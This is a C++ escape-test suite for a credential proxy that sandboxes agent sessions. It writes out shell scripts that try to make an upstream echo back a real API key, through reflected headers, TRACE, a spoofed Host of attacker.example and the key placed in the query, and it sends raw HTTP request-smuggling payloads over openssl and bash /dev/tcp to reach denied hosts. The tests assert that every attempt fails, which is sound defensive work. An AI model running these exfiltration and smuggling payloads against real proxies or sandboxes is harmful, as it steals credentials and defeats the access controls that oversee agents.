// Escape suite: the credential proxy. From inside a real native session, as
// a normal user, curl tries every way to have an upstream hand the real API
// key back: reflected headers (plain, gzip, deflate, chunked, split across
// pieces, base64), the key in the query, the path or another header, TRACE
// and TRACK, a Host or an absolute-form authority naming another host,
// base-URL mode and plain http. The upstream is the reflecting EchoServer on
// the host. The test checks that no real key ever reached the sandbox's
// output, and what the upstream saw.
#include <algorithm>
#include <boost/beast/core/detail/base64.hpp>
#include <map>

#include "../support/echo_server.h"
#include "../support/proxy_inputs.h"
#include "../support/real_user.h"
#include "../support/sandbox_image.h"
#include "../support/test_support.h"
#include "fmt/format.h"
#include "mojoup/credproxy/session_ca.h"

using mojoup::test::kReal;

namespace {

using Catch::Matchers::Contains;
using Catch::Matchers::StartsWith;
using mojoup::test::Sections;
using mojoup::test::Described;
using mojoup::test::EchoServer;
using mojoup::test::RealUser;
using mojoup::test::Run;
using mojoup::test::UserNode;

std::string DecodeBase64(const std::string& text) {
  std::string out(boost::beast::detail::base64::decoded_size(text.size()) + 3, '\0');
  out.resize(boost::beast::detail::base64::decode(out.data(), text.data(), text.size()).first);
  return out;
}

// `script` with each mark replaced by its upstream's port.
std::string WithPorts(std::string script,
                      const std::vector<std::pair<std::string, unsigned short>>& ports) {
  for (const auto& [mark, port] : ports) {
    for (std::size_t at = script.find(mark); at != std::string::npos; at = script.find(mark)) {
      script.replace(at, mark.size(), std::to_string(port));
    }
  }
  return script;
}

// Nothing the session printed holds the key, nor its random middle.
void RequireNoKey(const Run& run) {
  const std::string middle = kReal.substr(kReal.size() / 2 - 8, 16);
  for (const std::string* text : {&run.result.out, &run.result.err}) {
    REQUIRE(text->find(kReal) == std::string::npos);
    REQUIRE(text->find(middle) == std::string::npos);
  }
}

// The attacks; each section is one curl, its head and body (-i), and its errors.
constexpr const char* kAttacks = R"(
k="$ACME_KEY"
u="https://api.test:@API@"
p="http://plain.test:@PLAIN@"
b="http://127.0.0.1:3128/api.test:@API@"
echo "STANDIN:$k"
c() { n="$1"; shift; echo "=== $n"; curl -sS -i --max-time 20 "$@" 2>&1; echo; }
c headers -H "x-api-key: $k" -H "Authorization: Bearer $k" "$u/reflect"
c basic -u "user:$k" "$u/reflect?chunked=1&split=7"
c gzip -H "x-api-key: $k" "$u/reflect?gzip=1"
c gzip-compressed --compressed -H "x-api-key: $k" "$u/reflect?gzip=1&chunked=1&split=3"
c deflate -H "x-api-key: $k" "$u/reflect?deflate=1&split=11"
c chunked -H "x-api-key: $k" "$u/reflect?chunked=1&split=5"
c split -H "x-api-key: $k" "$u/reflect?split=1"
echo "=== b64"; curl -sS --max-time 20 -H "x-api-key: $k" "$u/reflect?b64=1" 2>&1; echo
c query -H "x-api-key: $k" "$u/reflect?key=$k"
c target "$u/reflect/$k"
c header -H "x-api-key: $k" -H "X-Reflect-Me: $k" "$u/reflect"
c trace -X TRACE -H "x-api-key: $k" "$u/"
c track -X TRACK -H "x-api-key: $k" "$u/"
c host -H "x-api-key: $k" -H "Host: attacker.example" "$u/reflect"
c authority -H "x-api-key: $k" --request-target "https://attacker.example/reflect" "$u/reflect"
c baseurl -H "x-api-key: $k" "$b/reflect?gzip=1&chunked=1&split=3"
c baseurl-query "$b/reflect?key=$k"
c baseurl-trace -X TRACE -H "x-api-key: $k" "$b/"
c plain-header -H "x-api-key: $k" "$p/reflect"
c plain-trace -X TRACE "$p/"
c plain-body --data-binary "leak=$k" "$p/reflect"
echo "=== end"
)";

TEST_CASE("escape: no reflection hands the session the real API key", "[escape][proxy]") {
  MOJOUP_REQUIRE_REAL_USER(user);
  UserNode node(*user);

  auto upstream_ca = mojoup::credproxy::SessionCa::Create("upstream test CA");
  REQUIRE(upstream_ca.ok());
  EchoServer api(*(*upstream_ca)->ServerContext("api.test"));
  EchoServer plain;
  const std::string ca_file = node.root + "/upstream-ca.pem";
  user->Write(ca_file, (*upstream_ca)->certificate_pem());
  node.Policy(fmt::format(R"({{"agents": {{"network": {{"tool_services": false, "allow": [
      {{"host": "api.test", "ports": [{}]}}, {{"host": "plain.test", "ports": [{}]}}]}}}}}})",
                          api.port(), plain.port()));
  const std::string script =
      WithPorts(kAttacks, {{"@API@", api.port()}, {"@PLAIN@", plain.port()}});

  Run run = node.Sh(script,
                    {"--credential", "ACME_KEY=api.test", "--upstream-ca", ca_file, "--resolve",
                     fmt::format("api.test:{}:127.0.0.1", api.port()), "--resolve",
                     fmt::format("plain.test:{}:127.0.0.1", plain.port())},
                    {"ACME_KEY=" + kReal});
  INFO(Described(run));
  REQUIRE(run.result.exit_code == 0);
  REQUIRE_THAT(run.result.out, Contains("=== end"));

  RequireNoKey(run);
  const std::size_t standin_at = run.result.out.find("STANDIN:");
  REQUIRE(standin_at != std::string::npos);
  const std::string stand_in =
      run.result.out.substr(standin_at + 8, run.result.out.find('\n', standin_at) - standin_at - 8);
  REQUIRE(stand_in.size() == kReal.size());
  REQUIRE(stand_in != kReal);

  auto sections = Sections(run.result.out);
  // Reflected: the session sees its stand-in where the upstream echoed the key.
  for (const char* name :
       {"headers", "gzip", "gzip-compressed", "deflate", "chunked", "split", "baseurl"}) {
    INFO(name << ":\n" << sections[name]);
    REQUIRE_THAT(sections[name], Contains("HTTP/1.1 200 OK"));
    REQUIRE_THAT(sections[name], Contains("X-Echo-x-api-key: " + stand_in));
    REQUIRE_THAT(sections[name], Contains("x-api-key: " + stand_in + "\n"));
  }
  REQUIRE_THAT(sections["headers"], Contains("Authorization: Bearer " + stand_in + "\n"));
  REQUIRE_THAT(sections["basic"], Contains("Basic " + mojoup::test::Base64("user:" + stand_in)));
  // In base64: nothing of the key's random part once decoded.
  std::string b64 = sections["b64"];
  b64.erase(std::remove(b64.begin(), b64.end(), '\n'), b64.end());
  REQUIRE(DecodeBase64(b64).find(kReal.substr(13, 40)) == std::string::npos);
  REQUIRE_THAT(DecodeBase64(b64), Contains("x-api-key: " + stand_in.substr(0, 40)));

  // Refused, and said why.
  for (auto [name, code] : std::vector<std::pair<std::string, std::string>>{
           {"query", "credential-misplaced"},
           {"target", "credential-misplaced"},
           {"header", "credential-misplaced"},
           {"trace", "method-not-allowed"},
           {"track", "method-not-allowed"},
           {"host", "host-mismatch"},
           {"authority", "host-mismatch"},
           {"baseurl-query", "credential-misplaced"},
           {"baseurl-trace", "method-not-allowed"},
           {"plain-header", "credential-host-mismatch"},
           {"plain-trace", "method-not-allowed"},
           {"plain-body", "credential-host-mismatch"}}) {
    INFO(name << ":\n" << sections[name]);
    REQUIRE_THAT(sections[name], Contains("HTTP/1.1 403"));
    REQUIRE_THAT(sections[name], Contains("X-Mojoup-Proxy-Error: " + code));
  }

  // The upstream: the real key only in credential headers, never a TRACE,
  // never another Host, never a stand-in or the key in a target.
  const auto seen = api.seen();
  REQUIRE(seen.size() == 9);  // the reflections, nothing refused
  for (const auto& request : seen) {
    INFO(request.method << " " << request.target);
    REQUIRE(request.method == "GET");
    REQUIRE(request.Header("host") == fmt::format("api.test:{}", api.port()));
    REQUIRE(request.target.find(kReal) == std::string::npos);
    REQUIRE(request.target.find(stand_in) == std::string::npos);
    REQUIRE(request.Header("accept-encoding") == "identity");
    const std::string key = request.Header("x-api-key");
    REQUIRE((key.empty() || key == kReal));
    for (const auto& [name, value] : request.headers) {
      if (name == "x-api-key" || name == "authorization") continue;
      REQUIRE(value.find(kReal) == std::string::npos);
      REQUIRE(value.find(stand_in) == std::string::npos);
    }
  }
  REQUIRE(seen[0].Header("authorization") == "Bearer " + kReal);
  REQUIRE(seen[1].Header("authorization") == "Basic " + mojoup::test::Base64("user:" + kReal));
  // Plain http got nothing with a stand-in in it (the body was cut off).
  REQUIRE(plain.seen().empty());
  REQUIRE(node.Leftovers() == 0);
}

}  // namespace

namespace {

// Request smuggling from inside a session: raw bytes through an intercepted
// tunnel (openssl s_client, CONNECT through the session's proxy) and on the
// plain-http path (bash's /dev/tcp), then chunked bodies, sent and answered,
// on every path. The in-process desync suite (desync_escape_test.cc) runs
// the whole catalogue; these are the attacks as an agent ran them.
constexpr const char* kSmuggling = R"(
k="$ACME_KEY"
api="api.test:@API@"
plain="plain.test:@PLAIN@"
echo "STANDIN:$k"
tls() { echo "=== $1"; openssl s_client -quiet -proxy 127.0.0.1:3128 -connect "$api" \
          -servername api.test 2>/dev/null; echo; }
raw() { echo "=== $1"; bash -c 'exec 3<>/dev/tcp/127.0.0.1/3128; cat >&3; cat <&3'; echo; }
next="GET /reflect HTTP/1.1\r\nHost: $api\r\nx-api-key: $k\r\nConnection: close\r\n\r\n"
printf "POST /reflect HTTP/1.1\r\nHost: $api\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nx=1\r\n0\r\n\r\nPOST /reflect HTTP/1.1\r\nHost: $api\r\nContent-Length: 400\r\n\r\nleak=$next" | tls te-te
printf "POST /reflect HTTP/1.1\r\nHost: $api\r\nContent-Length: 45\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /reflect HTTP/1.1\r\nHost: evil.test\r\nX: $next" | tls cl-te-host
printf "POST http://$plain/reflect HTTP/1.1\r\nHost: $plain\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\nGET http://denied.test/secret-admin HTTP/1.1\r\nHost: denied.test\r\n\r\nGET http://$plain/next HTTP/1.1\r\nHost: $plain\r\nConnection: close\r\n\r\n" | raw plain-te-te
printf "POST http://$plain/reflect HTTP/1.1\r\nHost: $plain\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n34\r\nGET /secret-admin HTTP/1.1\r\nHost: denied.test\r\nX: y\r\n\r\n0\r\n\r\n" | raw plain-te-cl
# Chunked bodies arrive whole, both ways, on every path.
{ printf BEGIN; head -c 100000 /dev/zero | tr '\0' x; printf END; } > /tmp/body
c() { n="$1"; shift; echo "=== $n"; curl -sS --max-time 20 -H 'Transfer-Encoding: chunked' \
        --data-binary @/tmp/body "$@" 2>&1; echo; }
c chunked-plain "http://$plain/reflect?chunked=1&split=4096"
c chunked-intercepted -H "x-api-key: $k" "https://$api/reflect?chunked=1&split=4096"
c chunked-baseurl "http://127.0.0.1:3128/$api/reflect?chunked=1&split=4096"
c chunked-tunnel "https://tunnel.test:@TUNNEL@/reflect?chunked=1&split=4096"
echo "=== end"
)";

}  // namespace

TEST_CASE("escape: a session smuggles no request past the proxy and chunked bodies arrive whole",
          "[escape][proxy][desync]") {
  MOJOUP_REQUIRE_REAL_USER(user);
  UserNode node(*user);

  auto upstream_ca = mojoup::credproxy::SessionCa::Create("upstream test CA");
  REQUIRE(upstream_ca.ok());
  EchoServer api(*(*upstream_ca)->ServerContext("api.test"));
  EchoServer tunnel(*(*upstream_ca)->ServerContext("tunnel.test"));
  EchoServer plain;
  const std::string ca_file = node.root + "/upstream-ca.pem";
  user->Write(ca_file, (*upstream_ca)->certificate_pem());
  node.Policy(fmt::format(R"({{"agents": {{"network": {{"tool_services": false, "allow": [
      {{"host": "api.test", "ports": [{}]}}, {{"host": "plain.test", "ports": [{}]}},
      {{"host": "tunnel.test", "ports": [{}]}}]}}}}}})",
                          api.port(), plain.port(), tunnel.port()));
  const std::string script = WithPorts(
      kSmuggling,
      {{"@API@", api.port()}, {"@PLAIN@", plain.port()}, {"@TUNNEL@", tunnel.port()}});
  Run run = node.Sh(script,
                    {"--credential", "ACME_KEY=api.test", "--upstream-ca", ca_file, "--resolve",
                     fmt::format("api.test:{}:127.0.0.1", api.port()), "--resolve",
                     fmt::format("plain.test:{}:127.0.0.1", plain.port()), "--resolve",
                     fmt::format("tunnel.test:{}:127.0.0.1", tunnel.port())},
                    {"ACME_KEY=" + kReal});
  INFO(Described(run));
  REQUIRE(run.result.exit_code == 0);
  REQUIRE_THAT(run.result.out, Contains("=== end"));
  RequireNoKey(run);

  auto sections = Sections(run.result.out);
  for (const char* name : {"te-te", "cl-te-host", "plain-te-te", "plain-te-cl"}) {
    INFO(name << ":\n" << sections[name]);
    REQUIRE_THAT(sections[name], StartsWith("HTTP/1.1 400"));
    REQUIRE_THAT(sections[name], Contains("could be read two ways"));
  }
  const std::string body = "BEGIN" + std::string(100000, 'x') + "END";
  for (const char* name :
       {"chunked-plain", "chunked-intercepted", "chunked-baseurl", "chunked-tunnel"}) {
    INFO(name << ":\n" << sections[name].substr(0, 600));
    REQUIRE_THAT(sections[name], Contains(body));
  }
  // The upstreams saw the chunked bodies whole and nothing smuggled: no
  // second request, no other host, no denied path, no key in a body.
  for (EchoServer* server : {&api, &plain, &tunnel}) {
    for (const auto& request : server->seen()) {
      INFO(request.method << " " << request.target);
      REQUIRE(request.target.find("secret-admin") == std::string::npos);
      REQUIRE(request.Header("host").find("evil") == std::string::npos);
      REQUIRE(request.target.rfind("/reflect?chunked=1", 0) == 0);
      REQUIRE(request.body_bytes == body.size());
    }
  }
  REQUIRE(api.seen().size() == 2);
  REQUIRE(plain.seen().size() == 1);
  REQUIRE(tunnel.seen().size() == 1);
  REQUIRE(node.Leftovers() == 0);
}
